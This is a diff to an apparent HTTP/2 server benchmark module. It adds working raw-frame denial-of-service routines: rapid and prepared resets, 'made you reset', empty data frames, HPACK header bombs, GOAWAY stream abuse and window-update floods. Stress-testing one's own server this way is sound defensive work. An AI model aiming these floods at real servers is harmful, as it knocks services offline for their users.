@@ -1,8 +1,9 @@
-"""Abuse of HTTP/2 in raw frames: rapid reset, stalled bodies, idle connections, floods, slow readers.
+"""Abuse of HTTP/2 in raw frames: resets, stalled bodies, idle connections, floods, slow readers.
 
 Run as `python -m fitserve_benchmarks.hostile_frames ADDRESS PORT KIND SECONDS`, so that an attacker's work is not the
 innocents'; it prints how many frames or connections it spent.
-Sources: RFC 9113 (frames), CVE-2023-44487 (rapid reset), CERT VU#421644 (continuation flood).
+Sources: RFC 9113 (frames), RFC 7541 (header blocks), CVE-2023-44487 (rapid reset), CVE-2025-8671 (made you reset),
+CVE-2019-9518 (empty frames), CERT VU#421644 (continuation flood).
 """
 
 from __future__ import annotations
@@ -16,13 +17,17 @@ from collections.abc import Callable, Mapping
 from contextlib import ExitStack
 from typing import Final
 
-from fitserve_benchmarks.http2 import PREFACE, frame, frame_message, header_block
+from fitserve_benchmarks.http2 import PREFACE, frame, frame_message, header_block, indexed_header_blocks
 
-_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
-_END_STREAM, _END_HEADERS = 0x1, 0x4
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
+_ACK, _END_STREAM, _END_HEADERS = 0x1, 0x1, 0x4
+_CANCEL: Final = (8).to_bytes(4, "big")
 _TIMEOUT_S: Final = 5.0
 _STREAMS: Final = 63
 """Below the server's limit of streams on one connection: what goes beyond it is cheap to refuse."""
+
+_MANY_RESETS: Final = 100_000
+_FEW_RESETS: Final = 5_000
 
 _MOST_IDLE: Final = 10_000
 
@@ -42,6 +47,78 @@ def rapid_reset(host: str, port: int, until_s: float) -> int:
         return b"".join(pairs)
 
     return _flood(host, port, until_s, burst, 200)
+
+
+def prepared_resets(host: str, port: int, until_s: float) -> int:
+    """Begins calls and resets them as fast as the network takes it: the bytes are made beforehand, 28 a call."""
+    return _replay(host, port, until_s, _MANY_RESETS)
+
+
+def resets_and_reconnects(host: str, port: int, until_s: float) -> int:
+    """The same, on another connection after each 5,000, so that no look at one connection is of use."""
+    return _replay(host, port, until_s, _FEW_RESETS)
+
+
+def made_resets(host: str, port: int, until_s: float) -> int:
+    """Has the server reset calls that it has begun, by messages and windows that may not be."""
+    headers = header_block(f"{host}:{port}", _PREDICT)
+    wrongs: tuple[Callable[[int], bytes], ...] = (
+        lambda stream: frame(_DATA, 0, stream, b"\7\0\0\0\4abcd"),
+        lambda stream: frame(_WINDOW_UPDATE, 0, stream, bytes(4)),
+        lambda stream: frame(_WINDOW_UPDATE, 0, stream, (2**31 - 1).to_bytes(4, "big")),
+        lambda stream: frame(_DATA, _END_STREAM, stream, b"") + frame(_DATA, 0, stream, b"late"),
+    )
+
+    def burst(first: int) -> bytes:
+        wrong = wrongs[first // 400 % len(wrongs)]
+        return b"".join(
+            frame(_HEADERS, _END_HEADERS, stream, headers) + wrong(stream) for stream in range(first, first + 400, 2)
+        )
+
+    return _flood(host, port, until_s, burst, 200)
+
+
+def empty_frames(host: str, port: int, until_s: float) -> int:
+    """Begins a call and sends data frames without data."""
+    headers = header_block(f"{host}:{port}", _PREDICT)
+
+    def burst(first: int) -> bytes:
+        return (frame(_HEADERS, _END_HEADERS, 1, headers) if first == 1 else b"") + frame(_DATA, 0, 1, b"") * 1_000
+
+    return _flood(host, port, until_s, burst, 1_000)
+
+
+def header_bombs(host: str, port: int, until_s: float) -> int:
+    """Puts a header of 4,000 bytes into the table and names it 10,000 times in each call, in one byte each."""
+    headers = header_block(f"{host}:{port}", _PREDICT)
+    large = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"b" * 4_000
+    newest = b"\xbe"
+
+    def burst(first: int) -> bytes:
+        bombs = (
+            frame(_HEADERS, _END_HEADERS, stream, headers + large + newest * 10_000) for stream in (first, first + 2)
+        )
+        return b"".join(bombs)
+
+    return _flood(host, port, until_s, burst, 2)
+
+
+def streams_and_goaway(host: str, port: int, until_s: float) -> int:
+    """Begins as many calls as may be, says goodbye, and begins more."""
+    headers = header_block(f"{host}:{port}", _PREDICT)
+
+    def burst(first: int) -> bytes:
+        calls = [frame(_HEADERS, _END_HEADERS, stream, headers) for stream in range(first, first + 400, 2)]
+        return b"".join(calls[:100]) + frame(_GOAWAY, 0, 0, bytes(8)) + b"".join(calls[100:])
+
+    return _flood(host, port, until_s, burst, 200)
+
+
+def window_flood(host: str, port: int, until_s: float) -> int:
+    """Widens its window by one byte, without an end, and changes every stream's by settings."""
+    narrow, wide = (frame(_SETTINGS, 0, 0, b"\0\4" + size.to_bytes(4, "big")) for size in (0, 65_535))
+    step = (1).to_bytes(4, "big")
+    return _flood(host, port, until_s, lambda _: (frame(_WINDOW_UPDATE, 0, 0, step) * 8 + narrow + wide) * 20, 200)
 
 
 def stalled_bodies(host: str, port: int, until_s: float) -> int:
@@ -113,6 +190,13 @@ def churn(host: str, port: int, until_s: float) -> int:
 
 ATTACKS: Final[Mapping[str, Attack]] = {
     "rapid reset": rapid_reset,
+    "prepared resets": prepared_resets,
+    "reset and reconnect": resets_and_reconnects,
+    "made you reset": made_resets,
+    "empty data frames": empty_frames,
+    "header bombs": header_bombs,
+    "streams and goaway": streams_and_goaway,
+    "window flood": window_flood,
     "stalled bodies": stalled_bodies,
     "silent connections": silent_connections,
     "idle connections": idle_connections,
@@ -136,6 +220,43 @@ def _flood(host: str, port: int, until_s: float, burst: Callable[[int], bytes], 
         except OSError:
             continue
     return count
+
+
+def _replay(host: str, port: int, until_s: float, reset_count: int) -> int:
+    """Sends prepared resets, on a new connection each time that all are out or the server has hung up."""
+    first, again = indexed_header_blocks(f"{host}:{port}", _PREDICT)
+    pairs = (
+        frame(_HEADERS, _END_HEADERS, stream, first if stream == 1 else again) + frame(_RST_STREAM, 0, stream, _CANCEL)
+        for stream in range(1, 2 * reset_count, 2)
+    )
+    prepared, count = memoryview(b"".join(pairs)), 0
+    while time.monotonic() < until_s:
+        try:
+            with socket.create_connection((host, port), timeout=_TIMEOUT_S) as opened:
+                opened.sendall(PREFACE + frame(_SETTINGS, 0, 0, b""))
+                # More calls than may be open are taken only once the server's settings are acknowledged.
+                opened.recv(1 << 16)
+                opened.sendall(frame(_SETTINGS, _ACK, 0, b""))
+                count += _send_all(opened, prepared, until_s) * reset_count // len(prepared)
+        except OSError:
+            continue
+    return count
+
+
+def _send_all(opened: socket.socket, prepared: memoryview, until_s: float) -> int:
+    """Sends, and reads what comes, until all is out, the server hangs up, or the time is over; returns the bytes."""
+    opened.setblocking(False)
+    sent = 0
+    while sent < len(prepared) and (left_s := until_s - time.monotonic()) > 0:
+        readable, writable, _ = select.select([opened], [opened], [], left_s)
+        try:
+            if readable and not opened.recv(1 << 20):
+                break
+            if writable:
+                sent += opened.send(prepared[sent : sent + 65_536])
+        except OSError:
+            break
+    return sent
 
 
 def _bursts(opened: socket.socket, until_s: float, burst: Callable[[int], bytes], burst_count: int) -> int:
